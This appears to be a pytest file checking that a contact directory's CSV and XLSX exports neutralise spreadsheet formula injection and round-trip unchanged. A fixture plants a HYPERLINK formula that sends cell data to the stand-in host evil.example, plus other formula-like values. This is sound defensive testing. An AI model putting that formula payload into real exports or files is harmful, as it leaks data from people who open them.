"""No export runs as a spreadsheet formula, and every export imports back unchanged."""

import csv
import io

import openpyxl
import pytest

from directory.models import ContactPhone
from import_export.tests.test_export import download

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def planted(network):
    """The Mexican coordinator planted formulas in its contacts' name and title."""
    network.diplomat.name = ATTACK
    network.diplomat.title = "@SUM(1+1)"
    network.diplomat.save()
    network.desk.name = "-Guardia"
    network.desk.save()
    return network


def test_the_csv_export_writes_formulas_as_quoted_text(planted):
    rows = list(csv.DictReader(io.StringIO(download(planted.manager, planted.directory, "csv").decode("utf-8-sig"))))
    names = {row["name"] for row in rows}
    assert "'" + ATTACK in names and "'-Guardia" in names
    assert "'@SUM(1+1)" in {row["title"] for row in rows}
    assert {row["phones"] for row in rows} >= {"'+525512345678 (emergency)"}


def test_the_xlsx_export_writes_no_formula(planted):
    workbook = openpyxl.load_workbook(io.BytesIO(download(planted.manager, planted.directory, "xlsx")))
    sheet = workbook.active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert "'" + ATTACK in [cell.value for cell in sheet["C"]]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_an_export_with_quoted_cells_imports_back_to_the_same_values(planted, format):
    from import_export.tests.test_spreadsheet_import import run

    exported = download(planted.coordinator_mex, planted.directory, format)
    report = run(planted, exported)
    assert "changed" not in {outcome.action for outcome in report.outcomes}
    planted.diplomat.refresh_from_db()
    planted.desk.refresh_from_db()
    assert (planted.diplomat.name, planted.diplomat.title, planted.desk.name) == (ATTACK, "@SUM(1+1)", "-Guardia")
    assert list(ContactPhone.objects.filter(contact=planted.desk).values_list("number", flat=True)) == ["+525512345678"]
